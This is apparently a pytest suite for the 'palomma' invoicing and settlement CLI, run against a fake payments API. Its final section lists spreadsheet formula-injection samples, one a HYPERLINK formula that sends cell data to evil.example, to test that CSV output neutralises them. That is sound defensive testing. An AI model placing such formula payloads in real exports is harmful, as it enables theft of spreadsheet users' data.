"""The palomma command, run with click's CliRunner against the fake API (PALOMMA_BASE_URL plus an ASGI transport)."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import attrs
import httpx2
import pytest
from click.testing import CliRunner, Result

from palomma_client import Environment
from palomma_client._generated.api import OPERATIONS
from palomma_client._generated.models import CreateInvoiceRequest, Invoice
from palomma_client.testing import FAKE_BASE_URL, FakeClock, FakePalomma
from palomma_client.workflows import REQUIRED_INVOICE_CSV_COLUMNS
from palomma_client.workflows._cli import (
    EXIT_API_ERROR,
    EXIT_FAILURES,
    EXIT_INTERRUPTED,
    EXIT_OK,
    EXIT_TERMINATED,
    EXIT_USAGE,
    CliSettings,
    cli,
    main,
)
from palomma_client.workflows._models import field_kinds
from tests.spec_calls import paged_call_of
from tests.support import fresh_name
from tests.workflows.support import (
    AMOUNT_MAX,
    AMOUNT_MIN,
    CLI_ERROR,
    REDIRECT_URL,
    Tampering,
    no_wait,
    note_refusal,
)

START = datetime(2026, 3, 11, 16, 32, 14, tzinfo=UTC)  # 11:32 in Colombia: payments settle in the 13:00 cycle
HEADER = "reference,amount,description,redirect_url,customer_document_number,customer_name"


@pytest.fixture
def fake() -> FakePalomma:
    return FakePalomma(clock=FakeClock(START), seed=11)


def run(
    fake: FakePalomma,
    *args: str,
    env: dict[str, str | None] | None = None,
    transport: httpx2.AsyncBaseTransport | None = None,
) -> Result:
    """Run `palomma ARGS` as a user would, with the key and base URL in the environment."""
    environment: dict[str, str | None] = {
        "PALOMMA_API_KEY": fake.api_key,
        "PALOMMA_BASE_URL": FAKE_BASE_URL,
        "PALOMMA_ENVIRONMENT": None,
        "PALOMMA_LOG": None,
    }
    environment.update(env or {})
    settings = CliSettings(transport=transport or httpx2.ASGITransport(app=fake.app), sleep=no_wait)
    result = CliRunner().invoke(cli, list(args), env=environment, obj=settings, catch_exceptions=False)
    # A command the spec no longer supports exits 2 naming itself: a test expecting more of it skips, naming it.
    note_refusal(result.stderr, CLI_ERROR)
    return result


def rent_csv(tmp_path: Path, *rows: str, header: str = HEADER, name: str = "rent.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def row(number: int, amount: str | None = None) -> str:
    cells = [
        f"RENT-2026-03-{number:03d}",
        amount if amount is not None else str(1_000_000 + number * 1_000),
        "Canon de arrendamiento marzo 2026",
        REDIRECT_URL,
        f"10203040{number:02d}",
        f"Tenant {number}",
    ]
    return ",".join(cells)


# --------------------------------------------------------------------------- invoices create-batch


def test_create_batch_issues_every_row_and_a_rerun_creates_nothing_more(tmp_path: Path, fake: FakePalomma) -> None:
    path = rent_csv(tmp_path, *(row(number) for number in range(1, 6)))

    first = run(fake, "invoices", "create-batch", str(path))
    rerun = run(fake, "invoices", "create-batch", str(path))

    assert first.exit_code == EXIT_OK, first.output
    lines = first.stdout.splitlines()
    assert lines[0].split() == ["LINE", "REFERENCE", "OUTCOME", "INVOICE_ID", "PAYMENT_URL", "DETAIL"]
    assert [line.split()[:3] for line in lines[1:]] == [
        [str(number + 1), f"RENT-2026-03-{number:03d}", "created"] for number in range(1, 6)
    ]
    assert "5 invoices: 5 created, 0 already existed, 0 failed" in first.stderr
    assert rerun.exit_code == EXIT_OK
    assert "5 invoices: 0 created, 5 already existed, 0 failed" in rerun.stderr
    assert len(fake.invoices()) == 5
    assert {invoice["customerName"] for invoice in fake.invoices()} == {f"Tenant {n}" for n in range(1, 6)}


def test_off_a_terminal_the_progress_bar_leaves_nothing_behind(tmp_path: Path, fake: FakePalomma) -> None:
    result = run(fake, "invoices", "create-batch", str(rent_csv(tmp_path, row(1))))
    assert result.stderr == "1 invoice: 1 created, 0 already existed, 0 failed\n"


def test_create_batch_exits_1_when_some_rows_fail(tmp_path: Path, fake: FakePalomma) -> None:
    path = rent_csv(tmp_path, row(1), row(2), row(3))
    fake.fail_next(400, method="POST", error="Amount must be an integer")

    result = run(fake, "invoices", "create-batch", str(path), "--concurrency", "1", "--format", "csv")

    assert result.exit_code == EXIT_FAILURES
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(item["line"], item["outcome"]) for item in rows] == [
        ("2", "failed"),
        ("3", "created"),
        ("4", "created"),
    ]
    assert rows[0]["detail"] == "BadRequestError: 400 Bad Request: Amount must be an integer"
    assert rows[1]["payment_url"].startswith("https://pagos.palomma.com/pay/")
    assert "3 invoices: 2 created, 0 already existed, 1 failed" in result.stderr


def test_create_batch_writes_json_results_to_a_file(tmp_path: Path, fake: FakePalomma) -> None:
    fake.create_invoice(reference="RENT-2026-03-001", amount=999_000)
    path = rent_csv(tmp_path, row(1), row(2))
    report = tmp_path / "results.json"

    result = run(fake, "invoices", "create-batch", str(path), "--format", "json", "--output", str(report))

    assert result.exit_code == EXIT_OK
    assert result.stdout == ""
    items = json.loads(report.read_text(encoding="utf-8"))
    assert [(item["reference"], item["outcome"]) for item in items] == [
        ("RENT-2026-03-001", "already_existed"),
        ("RENT-2026-03-002", "created"),
    ]
    assert items[0]["detail"] == "differs from the file: amount, description, customer_document_number, customer_name"


@pytest.mark.parametrize(
    ("rows", "header", "message"),
    [
        ((row(1),), HEADER.replace(",redirect_url", ""), "line 1, redirect_url: required column is missing"),
        ((row(1), row(2, amount="1.850.000")), HEADER, "line 3, amount: '1.850.000' is not a whole number"),
        (
            (row(1), row(2, amount="1000")),
            HEADER,
            f"line 3, amount: must be between {AMOUNT_MIN:,} and {AMOUNT_MAX:,}, got 1,000",
        ),
    ],
)
def test_a_bad_csv_exits_2_with_line_numbers_and_sends_nothing(
    tmp_path: Path, fake: FakePalomma, rows: tuple[str, ...], header: str, message: str
) -> None:
    if "redirect_url" not in header:
        rows = tuple(line.replace(REDIRECT_URL + ",", "") for line in rows)
    path = rent_csv(tmp_path, *rows, header=header)

    result = run(fake, "invoices", "create-batch", str(path))

    assert result.exit_code == EXIT_USAGE
    assert result.stderr.startswith(f"Error: {path} has 1 problem; nothing was sent:")
    assert message in result.stderr
    assert fake.requests == []


def test_dry_run_checks_the_file_and_sends_nothing(tmp_path: Path, fake: FakePalomma) -> None:
    path = rent_csv(tmp_path, row(1), row(2))

    result = run(fake, "invoices", "create-batch", str(path), "--dry-run")

    assert result.exit_code == EXIT_OK
    assert "2 invoices checked; nothing was sent" in result.stderr
    assert fake.requests == []


def test_a_missing_file_is_a_usage_error(tmp_path: Path, fake: FakePalomma) -> None:
    result = run(fake, "invoices", "create-batch", str(tmp_path / "nope.csv"))
    assert result.exit_code == EXIT_USAGE
    assert "does not exist" in result.stderr


def test_the_help_lists_the_columns_of_the_create_model(fake: FakePalomma) -> None:
    result = run(fake, "invoices", "create-batch", "--help")
    assert result.exit_code == EXIT_OK
    assert ", ".join(REQUIRED_INVOICE_CSV_COLUMNS) in " ".join(result.stdout.split())


@pytest.mark.parametrize("spelling", ["same", "dotted", "hard link"])
def test_the_output_may_never_be_the_input_file(tmp_path: Path, fake: FakePalomma, spelling: str) -> None:
    path = rent_csv(tmp_path, row(1), row(2))
    before = path.read_text(encoding="utf-8")
    if spelling == "dotted":
        output = str(tmp_path / "." / path.name)
    elif spelling == "hard link":
        output = str(tmp_path / "results.csv")
        os.link(path, output)
    else:
        output = str(path)

    result = run(fake, "invoices", "create-batch", str(path), "-o", output)

    assert result.exit_code == EXIT_USAGE
    assert "--output must not be the input file" in result.stderr
    assert path.read_text(encoding="utf-8") == before
    assert fake.requests == []


def test_a_bad_file_leaves_an_earlier_results_file_alone(tmp_path: Path, fake: FakePalomma) -> None:
    path = rent_csv(tmp_path, row(1, amount="abc"))
    results = tmp_path / "results.csv"
    results.write_text("earlier results\n", encoding="utf-8")

    result = run(fake, "invoices", "create-batch", str(path), "-o", str(results))

    assert result.exit_code == EXIT_USAGE
    assert results.read_text(encoding="utf-8") == "earlier results\n"


def test_a_wrong_key_stops_a_large_batch_after_its_concurrency_and_exits_3(tmp_path: Path, fake: FakePalomma) -> None:
    path = rent_csv(tmp_path, *(row(number) for number in range(1, 2_001)))
    results = tmp_path / "results.csv"

    result = run(
        fake,
        "invoices",
        "create-batch",
        str(path),
        "--format",
        "csv",
        "-o",
        str(results),
        env={"PALOMMA_API_KEY": "sk_live_wrong_key"},
    )

    assert result.exit_code == EXIT_API_ERROR
    assert len(fake.requests) <= 10  # the default concurrency: one lookup each, then nothing more
    rows = list(csv.DictReader(io.StringIO(results.read_text(encoding="utf-8"))))
    assert len(rows) == 2_000
    outcomes = [item["outcome"] for item in rows]
    assert outcomes.count("failed") == len(fake.requests)
    assert outcomes.count("not_attempted") == 2_000 - len(fake.requests)
    assert {item["line"] for item in rows} == {str(line) for line in range(2, 2_002)}
    assert f"2,000 invoices: 0 created, 0 already existed, {len(fake.requests)} failed, " in result.stderr
    assert "Error: stopped early: the API refused the key (AuthenticationError: 401 Unauthorized" in result.stderr
    assert "run the same file again to finish the rows not attempted" in result.stderr
    assert "sk_live_wrong_key" not in result.output


def test_a_run_of_connection_failures_opens_the_circuit_and_exits_3(tmp_path: Path, fake: FakePalomma) -> None:
    attempts: list[httpx2.Request] = []

    def refuse(request: httpx2.Request) -> httpx2.Response:
        attempts.append(request)
        raise httpx2.ConnectError("connection refused", request=request)

    path = rent_csv(tmp_path, *(row(number) for number in range(1, 101)))
    result = run(
        fake,
        "invoices",
        "create-batch",
        str(path),
        "--concurrency",
        "2",
        "--max-consecutive-failures",
        "3",
        "--format",
        "json",
        transport=httpx2.MockTransport(refuse),
    )

    assert result.exit_code == EXIT_API_ERROR
    items = json.loads(result.stdout)
    failed = [item for item in items if item["outcome"] == "failed"]
    assert 3 <= len(failed) <= 4
    assert len(items) == 100
    assert len(attempts) == 3 * len(failed)  # each lookup tried once and retried twice, then nothing more
    assert "stopped early: 3 invoices in a row could not reach the API or met a server error" in result.stderr


class SignalAfterPost(httpx2.AsyncBaseTransport):
    """Forwards to the fake; after the first POST's answer, sends this process the given signals."""

    def __init__(self, fake: FakePalomma, *signals: signal.Signals) -> None:
        self._inner = httpx2.ASGITransport(app=fake.app)
        self._signals = list(signals)

    async def handle_async_request(self, request: httpx2.Request) -> httpx2.Response:
        response = await self._inner.handle_async_request(request)
        if request.method == "POST":
            while self._signals:
                signal.raise_signal(self._signals.pop(0))
        return response


@pytest.mark.parametrize(
    ("received", "exit_code"), [(signal.SIGTERM, EXIT_TERMINATED), (signal.SIGINT, EXIT_INTERRUPTED)]
)
def test_a_signal_stops_the_batch_and_the_results_so_far_are_written(
    tmp_path: Path, fake: FakePalomma, received: signal.Signals, exit_code: int
) -> None:
    path = rent_csv(tmp_path, *(row(number) for number in range(1, 21)))
    results = tmp_path / "results.csv"
    handler_before = signal.getsignal(received)

    result = run(
        fake,
        "invoices",
        "create-batch",
        str(path),
        "--concurrency",
        "1",
        "--format",
        "csv",
        "-o",
        str(results),
        transport=SignalAfterPost(fake, received),
    )

    assert result.exit_code == exit_code
    rows = list(csv.DictReader(io.StringIO(results.read_text(encoding="utf-8"))))
    created = [item for item in rows if item["outcome"] == "created"]
    assert 1 <= len(created) <= 2
    assert len(fake.invoices()) == len(created)
    # The rows never read are one summary row, not one row each: a million of them take too long.
    [rest] = rows[len(created) :]
    last_started = int(created[-1]["line"])
    assert rest["outcome"] == "not_attempted"
    assert rest["detail"] == (
        f"the {20 - len(created)} rows after line {last_started} were not attempted "
        f"(interrupted by {received.name}); run the file again to issue them"
    )
    assert f"20 invoices: {len(created)} created, 0 already existed, 0 failed, {20 - len(created)} not attempted" in (
        result.stderr
    )
    assert f"Error: interrupted by {received.name}; run the same file again" in result.stderr
    assert signal.getsignal(received) == handler_before  # the command put back what it found


def test_a_second_signal_stops_at_once(tmp_path: Path, fake: FakePalomma) -> None:
    path = rent_csv(tmp_path, *(row(number) for number in range(1, 6)))

    result = run(
        fake,
        "invoices",
        "create-batch",
        str(path),
        "--concurrency",
        "1",
        "--format",
        "json",
        transport=SignalAfterPost(fake, signal.SIGTERM, signal.SIGTERM),
    )

    assert result.exit_code == EXIT_TERMINATED
    # The one invoice in flight has no result to report; the four rows after it were never started.
    [rest] = json.loads(result.stdout)
    assert rest["outcome"] == "not_attempted"
    assert rest["detail"].startswith("the 4 rows after line 2 were not attempted (interrupted by SIGTERM)")
    assert "5 invoices: 0 created, 0 already existed, 0 failed, 4 not attempted, 1 without a result" in result.stderr


# --------------------------------------------------------------------------- invoices list and get


@pytest.fixture
def billed(fake: FakePalomma) -> list[dict[str, Any]]:
    """Three invoices: the first two paid (settling in the 13:00 cycle), the third still ready."""
    created = [
        fake.create_invoice(reference=f"RENT-{n}", amount=1_000_000 * n, contract=f"CTR-{n % 2}") for n in (1, 2, 3)
    ]
    for invoice in created[:2]:
        fake.pay(invoice["id"])
    return created


def table(text: str, right: tuple[str, ...] = ("AMOUNT",)) -> list[dict[str, str]]:
    """The rows of a table the command printed, by column (cells are two spaces apart; `right` are right-aligned)."""
    header, *lines = text.splitlines()
    names = header.split()
    starts = [header.index(name) for name in names]
    rows = []
    for line in lines:
        row = {}
        for name, start, next_start in zip(names, starts, [*starts[1:], None], strict=True):
            if name in right:
                row[name] = line[: start + len(name)].rsplit("  ", 1)[-1].strip()
            else:
                row[name] = line[start:next_start].split("  ")[0].strip()
        rows.append(row)
    return rows


def _printed(*json_names: str) -> None:
    """Skip the test, naming the field, when the spec's Invoice (what the CLI prints) no longer has one it reads."""
    for json_name in json_names:
        if json_name not in Invoice.JSON_NAMES.values():
            pytest.skip(f"the spec's Invoice has no field {json_name!r}")


def test_list_prints_a_table_newest_first(fake: FakePalomma, billed: list[dict[str, Any]]) -> None:
    _printed("reference", "status")
    result = run(fake, "invoices", "list")

    assert result.exit_code == EXIT_OK
    header = result.stdout.splitlines()[0].split()
    # The invoice's id, what was billed (the create fields an invoice echoes), then its status and settlement.
    echoed = [name for name in CreateInvoiceRequest.JSON_NAMES if name in Invoice.JSON_NAMES]
    assert header == ["ID", *(name.upper() for name in echoed), "STATUS", "SETTLEMENT"]
    assert header[:4] == ["ID", "REFERENCE", "AMOUNT", "DESCRIPTION"]
    rows = table(result.stdout)
    assert [(row["REFERENCE"], row["STATUS"], row["AMOUNT"]) for row in rows] == [
        ("RENT-3", "ready", "3,000,000"),
        ("RENT-2", "paid", "2,000,000"),
        ("RENT-1", "paid", "1,000,000"),
    ]
    assert rows[1]["SETTLEMENT"] == "2026-03-11 13"
    assert rows[1]["ID"] == billed[1]["id"]
    assert "3 invoices" in result.stderr


def test_list_filters_and_pages_to_csv(fake: FakePalomma, billed: list[dict[str, Any]]) -> None:
    _printed("reference", "paymentAmount", "settlementTime")
    result = run(
        fake,
        "invoices",
        "list",
        "--settlement-date",
        "2026-03-11",
        "--settlement-cycle",
        "13",
        "--page-size",
        "1",
        "--format",
        "csv",
    )

    assert result.exit_code == EXIT_OK
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    # Every field of the generated Invoice model is a column, in the spec's order.
    assert list(rows[0]) == [field.name for field in attrs.fields(Invoice) if field.init]
    assert [(item["reference"], item["payment_amount"], item["settlement_time"]) for item in rows] == [
        ("RENT-2", "2000000", "13"),
        ("RENT-1", "1000000", "13"),
    ]
    listings = [request for request in fake.requests if request.path == "/v1/invoices"]
    assert len(listings) == 2
    assert listings[0].params == {"settlementDate": "2026-03-11", "settlementCycle": "13", "limit": "1"}


def test_the_page_size_is_bounded_by_the_spec_and_defaults_to_its_largest_page(fake: FakePalomma) -> None:
    # `palomma invoices list` pages through listInvoices; its largest page is the spec's `limit` maximum.
    largest = OPERATIONS[paged_call_of("listInvoices").call.operation_id].RULES.get("limit", {}).get("maximum")
    if largest is None:
        pytest.skip("the spec's listInvoices states no largest page (a 'limit' maximum)")

    listed = run(fake, "invoices", "list", "--format", "json")
    too_large = run(fake, "invoices", "list", "--page-size", str(largest + 1))

    assert listed.exit_code == EXIT_OK
    assert fake.requests[0].params["limit"] == str(largest)
    assert too_large.exit_code == EXIT_USAGE
    assert len(fake.requests) == 1


def test_list_to_json_matches_the_api(fake: FakePalomma, billed: list[dict[str, Any]]) -> None:
    result = run(fake, "invoices", "list", "--contract", "CTR-1", "--max-items", "1", "--format", "json")

    assert result.exit_code == EXIT_OK
    assert json.loads(result.stdout) == [fake.invoice(billed[2]["id"])]


def test_list_of_nothing_is_an_empty_json_array(fake: FakePalomma) -> None:
    result = run(fake, "invoices", "list", "--format", "json")
    assert json.loads(result.stdout) == []


def test_a_bad_filter_exits_2_before_sending(fake: FakePalomma) -> None:
    result = run(fake, "invoices", "list", "--payment-date", "11/03/2026")
    assert result.exit_code == EXIT_USAGE
    assert "Error: payment_date: must be a datetime.date or a 'YYYY-MM-DD' string" in result.stderr
    assert fake.requests == []


def test_get_prints_the_invoice_as_json_or_a_table(fake: FakePalomma, billed: list[dict[str, Any]]) -> None:
    _printed("reference")
    invoice_id = billed[0]["id"]

    as_json = run(fake, "invoices", "get", invoice_id)
    as_table = run(fake, "invoices", "get", invoice_id, "--format", "table")

    assert as_json.exit_code == as_table.exit_code == EXIT_OK
    shown = json.loads(as_json.stdout)
    expected = fake.invoice(invoice_id)
    # The SDK writes paymentDate back in Python's ISO form; the instant is the same.
    assert datetime.fromisoformat(shown.pop("paymentDate")) == datetime.fromisoformat(expected.pop("paymentDate"))
    assert shown == expected
    assert "reference                 RENT-1" in as_table.stdout
    assert "settlement_time           13" in as_table.stdout


def test_get_of_an_unknown_invoice_exits_3(fake: FakePalomma) -> None:
    result = run(fake, "invoices", "get", "01HQY8EW1H9YGH5PAV5Y2M9R3T")
    assert result.exit_code == EXIT_API_ERROR
    assert result.stderr == "Error: 404 Not Found: Invoice not found\n"


# --------------------------------------------------------------------------- settlements reconcile


def test_reconcile_exits_0_for_a_balanced_settlement(fake: FakePalomma, billed: list[dict[str, Any]]) -> None:
    fake.clock.set(START + timedelta(hours=2))

    result = run(fake, "settlements", "reconcile", "2026-03-11", "13")

    assert result.exit_code == EXIT_OK
    assert result.stdout.startswith("Settlement 2026-03-11 cycle 13 (paid): balanced\n")
    assert "amount collected    3,000,000 COP (invoices add up to 3,000,000 COP)" in result.stdout


def test_reconcile_exits_1_and_lists_discrepancies_for_an_inconsistent_settlement(
    fake: FakePalomma, billed: list[dict[str, Any]]
) -> None:
    def short_paid(settlement: dict[str, Any]) -> None:
        settlement["paymentAmount"] -= 10_000

    tampering = Tampering(fake, settlement=short_paid)
    text = run(fake, "settlements", "reconcile", "2026-03-11", "13", transport=tampering)
    as_json = run(fake, "settlements", "reconcile", "2026-03-11", "13", "--format", "json", transport=tampering)

    assert text.exit_code == as_json.exit_code == EXIT_FAILURES
    assert "NOT balanced, 1 discrepancy" in text.stdout
    assert "- payment_amount: amountCollected 3,000,000 COP - fees" in text.stdout
    document = json.loads(as_json.stdout)
    assert document["balanced"] is False
    assert document["figures"]["invoicesListed"] == 2
    assert document["figures"]["amountCollected"] == 3_000_000
    [discrepancy] = document["discrepancies"]
    assert discrepancy["kind"] == "payment_amount"
    assert discrepancy["actual"] == discrepancy["expected"] - 10_000


def test_reconcile_of_a_missing_settlement_exits_3(fake: FakePalomma) -> None:
    result = run(fake, "settlements", "reconcile", "2026-03-11", "13")
    assert result.exit_code == EXIT_API_ERROR
    assert "404 Not Found: Settlement not found" in result.stderr


def test_reconcile_with_a_bad_date_exits_2(fake: FakePalomma) -> None:
    result = run(fake, "settlements", "reconcile", "2026-13-40", "13")
    assert result.exit_code == EXIT_USAGE
    assert fake.requests == []


# --------------------------------------------------------------------------- configuration and errors


def test_the_base_url_comes_from_the_environment(fake: FakePalomma) -> None:
    result = run(fake, "invoices", "list", env={"PALOMMA_BASE_URL": "http://other-fake.test/v1"})
    assert result.exit_code == EXIT_OK
    assert fake.requests[0].headers["host"] == "other-fake.test"


def test_the_base_url_option_overrides_the_environment(fake: FakePalomma) -> None:
    result = run(fake, "--base-url", "http://option.test/v1", "invoices", "list")
    assert result.exit_code == EXIT_OK
    assert fake.requests[0].headers["host"] == "option.test"


def test_without_an_api_key_nothing_is_sent_and_the_exit_code_is_2(fake: FakePalomma) -> None:
    result = run(fake, "invoices", "list", env={"PALOMMA_API_KEY": None})
    assert result.exit_code == EXIT_USAGE
    assert "set PALOMMA_API_KEY" in result.stderr
    assert fake.requests == []


def test_an_unknown_environment_is_a_usage_error(fake: FakePalomma) -> None:
    unknown = fresh_name({member.value for member in Environment}, "staging", "qa")  # one the spec does not list
    result = run(fake, "invoices", "list", env={"PALOMMA_ENVIRONMENT": unknown, "PALOMMA_BASE_URL": None})
    assert result.exit_code == EXIT_USAGE
    assert "environment" in result.stderr


def test_a_wrong_key_exits_3_without_showing_the_key(fake: FakePalomma) -> None:
    secret = "sk_live_do_not_print_me_42"
    result = run(fake, "invoices", "get", "01HQY8EW1H9YGH5PAV5Y2M9R3T", env={"PALOMMA_API_KEY": secret})
    assert result.exit_code == EXIT_API_ERROR
    assert "401 Unauthorized: Invalid or missing token" in result.stderr
    assert secret not in result.output


def test_a_connection_failure_exits_3(fake: FakePalomma) -> None:
    def refuse(request: httpx2.Request) -> httpx2.Response:
        raise httpx2.ConnectError("connection refused", request=request)

    result = run(fake, "invoices", "list", transport=httpx2.MockTransport(refuse))

    assert result.exit_code == EXIT_API_ERROR
    assert result.stderr == "Error: Connection error on GET /v1/invoices\n"
    assert fake.api_key not in result.output


def test_a_usage_mistake_exits_2(fake: FakePalomma) -> None:
    result = run(fake, "settlements", "reconcile", "2026-03-11")
    assert result.exit_code == EXIT_USAGE
    assert "Missing argument 'CYCLE'" in result.stderr


def test_main_is_the_console_script_entry_point(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["--version"])
    assert exited.value.code == EXIT_OK
    assert "palomma, version" in capsys.readouterr().out


def test_the_sdk_works_without_click_and_never_imports_the_command_line() -> None:
    # httpx2 imports click itself when it is installed, so block it to prove the SDK does not need it.
    probe = "\n".join(
        [
            "import sys; sys.modules['click'] = None",
            "import palomma_client",
            "print('palomma_client.workflows._cli' in sys.modules)",
        ]
    )
    completed = subprocess.run([sys.executable, "-c", probe], check=True, capture_output=True, text=True)
    assert completed.stdout.strip() == "False"


def test_the_console_script_is_installed() -> None:
    script = Path(sys.executable).parent / "palomma"
    completed = subprocess.run(
        [str(script), "settlements", "reconcile", "--help"], check=True, capture_output=True, text=True
    )
    assert "Usage: palomma settlements reconcile [OPTIONS] DATE CYCLE" in completed.stdout


# --------------------------------------------------------------------------- spreadsheet-safe csv

HOSTILE_TEXTS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Pay here")',
    "+57 300 1234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab Tenant",
    "\rCarriage Return Tenant",
)
"""Text a tenant or an upstream can write, which a spreadsheet would run as a formula (OWASP's first characters)."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _numeric_json_names() -> list[str]:
    kinds = field_kinds(Invoice)
    return [Invoice.JSON_NAMES[name] for name, kind in kinds.items() if kind in ("integer", "number")]


@pytest.mark.parametrize("hostile", HOSTILE_TEXTS)
def test_list_to_csv_neutralises_text_a_spreadsheet_would_run(fake: FakePalomma, hostile: str) -> None:
    """Each such cell was written as it is; now it starts with a single quote, and reads back as text."""
    _printed("reference", "description", "customerName")
    created = fake.create_invoice(reference=f"{hostile}-ref", description=hostile, customer_name=hostile)

    result = run(fake, "invoices", "list", "--format", "csv")

    assert result.exit_code == EXIT_OK
    [listed] = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert listed["reference"] == "'" + created["reference"]
    assert listed["description"] == "'" + hostile
    assert listed["customer_name"] == "'" + hostile
    assert listed["id"] == created["id"], "text that starts harmlessly is left as it is"
    assert not [cell for cell in listed.values() if cell.startswith(FORMULA_STARTS)]


def test_list_to_csv_writes_negative_numbers_as_numbers(fake: FakePalomma) -> None:
    """A number the API sent is a number in the sheet, a negative one too: only text is quoted."""
    numeric = _numeric_json_names()
    assert numeric, "the spec's Invoice has numeric fields"

    items = paged_call_of("listInvoices").items_name

    def negate(page: dict[str, Any]) -> None:
        for item in page[items]:
            item.update(dict.fromkeys(numeric, -1850000))

    fake.create_invoice(reference="RENT-NEGATIVE")

    result = run(fake, "invoices", "list", "--format", "csv", transport=Tampering(fake, invoice_page=negate))

    assert result.exit_code == EXIT_OK
    [listed] = list(csv.DictReader(io.StringIO(result.stdout)))
    python_names = {json_name: name for name, json_name in Invoice.JSON_NAMES.items()}
    assert {listed[python_names[name]] for name in numeric} == {"-1850000"}


def test_the_batch_result_file_neutralises_hostile_references(tmp_path: Path, fake: FakePalomma) -> None:
    rows = []
    for number, hostile in enumerate(HOSTILE_TEXTS, start=1):
        cells = row(number).split(",")
        cells[0] = '"' + f"{hostile}-{number}".replace('"', '""') + '"'
        rows.append(",".join(cells))
    path = rent_csv(tmp_path, *rows)
    results = tmp_path / "results.csv"

    result = run(fake, "invoices", "create-batch", str(path), "--format", "csv", "-o", str(results))

    assert result.exit_code == EXIT_OK, result.stderr
    with results.open(encoding="utf-8", newline="") as handle:
        written = list(csv.DictReader(handle))
    # The file's reader trims spaces and tabs around a cell: what was sent is what the fake stored.
    sent = [invoice["reference"] for invoice in fake.invoices()]
    formulas = [reference for reference in sent if reference.startswith(FORMULA_STARTS)]
    assert len(formulas) >= 4
    assert sorted(item["reference"] for item in written) == sorted(
        "'" + reference if reference in formulas else reference for reference in sent
    ), "the quote is only in the result file, never sent"
    assert {item["outcome"] for item in written} == {"created"}
